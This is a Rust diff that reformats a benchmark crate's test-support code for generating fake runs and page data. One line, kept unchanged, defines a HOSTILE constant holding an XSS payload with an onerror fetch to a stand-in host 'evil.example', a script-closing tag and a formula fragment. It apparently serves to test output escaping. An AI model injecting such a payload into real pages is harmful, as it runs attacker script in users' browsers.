@@ -12,7 +12,8 @@ use writecliff_bench::{
 };
 
 /// What would run if a page took a name for markup or for a script.
-pub(crate) const HOSTILE: &str = "<img src=x onerror=\"fetch('http://evil.example')\">'</script>|=1+1";
+pub(crate) const HOSTILE: &str =
+    "<img src=x onerror=\"fetch('http://evil.example')\">'</script>|=1+1";
 
 /// What must be in no page.
 pub(crate) const SECRETS: [&str; 3] = ["SECRET-SERIAL", "secret-host", "/secret/directory"];
@@ -91,7 +92,8 @@ pub(crate) fn conditions(test: &str, kind: Kind, words: &str) -> Conditions {
 pub(crate) fn run(at: usize, seed: usize, test: &str, conditions: Conditions) -> NewRun {
     let salt = seed * 100 + conditions.words.len() + conditions.kind as usize;
     let value = |row: usize| number(at, salt + row, 90_000) as f64 / (1 + row) as f64;
-    let figures = FIGURES.iter().enumerate().map(|(row, figure)| (metric(test, *figure), value(row)));
+    let figures =
+        FIGURES.iter().enumerate().map(|(row, figure)| (metric(test, *figure), value(row)));
     NewRun {
         id: slug(&format!("r{at} {seed} {}", conditions.id)),
         drive: drive(at),
@@ -143,7 +145,8 @@ pub(crate) fn gathered(drives: usize, seeds: usize) -> Gather {
     let mut gather = Gather::default();
     for at in 0..drives {
         let whole = |kind| conditions("consistency", kind, "the whole method");
-        (0..seeds).for_each(|seed| gather.run(run(at, seed, "consistency", whole(Kind::Simulated))));
+        (0..seeds)
+            .for_each(|seed| gather.run(run(at, seed, "consistency", whole(Kind::Simulated))));
         if at % 3 == 0 {
             gather.run(run(at, 0, "consistency", whole(Kind::Measured)));
         }
